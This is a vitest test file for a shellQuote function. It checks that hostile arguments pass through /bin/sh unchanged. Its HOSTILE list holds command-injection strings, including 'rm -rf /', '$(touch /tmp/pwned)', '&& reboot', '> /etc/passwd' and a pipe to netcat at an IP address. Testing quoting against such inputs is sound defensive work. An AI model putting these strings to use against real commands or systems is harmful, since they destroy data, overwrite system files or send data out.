import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellQuote } from '../../../src/core/playbook/shell-quote.ts';

// Each argument must reach the program exactly as given, whatever a shell would make of it.
const HOSTILE = [
  '/var/log/nginx/error.log; rm -rf /',
  '$(touch /tmp/pwned)',
  '`id`',
  "it's",
  "'; echo x; '",
  'a\nb',
  '*',
  '~root',
  '-rf',
  '',
  '&& reboot',
  '| nc 1.2.3.4 9',
  '> /etc/passwd',
  '$HOME ${PATH}',
  'ünïcødé ☃',
  '\\',
  '"double"',
];

describe('shellQuote', () => {
  it.each(HOSTILE)('passes %j through /bin/sh unchanged', (arg) => {
    const line = shellQuote(['printf', '%s\\0', arg]);
    const out = execFileSync('/bin/sh', ['-c', line], { encoding: 'utf8' });
    expect(out).toBe(`${arg}\0`);
  });

  it('keeps argument boundaries for many arguments at once', () => {
    const out = execFileSync('/bin/sh', ['-c', shellQuote(['printf', '%s\\0', ...HOSTILE])], { encoding: 'utf8' });
    expect(out.split('\0').slice(0, -1)).toEqual(HOSTILE);
  });

  it('leaves plain words readable', () => {
    expect(shellQuote(['tail', '-n', '3000', '/var/log/nginx/error.log'])).toBe('tail -n 3000 /var/log/nginx/error.log');
  });

  it('refuses NUL bytes and empty commands', () => {
    expect(() => shellQuote(['cat', 'a\0b'])).toThrow(/NUL/);
    expect(() => shellQuote([])).toThrow(/empty/);
  });
});
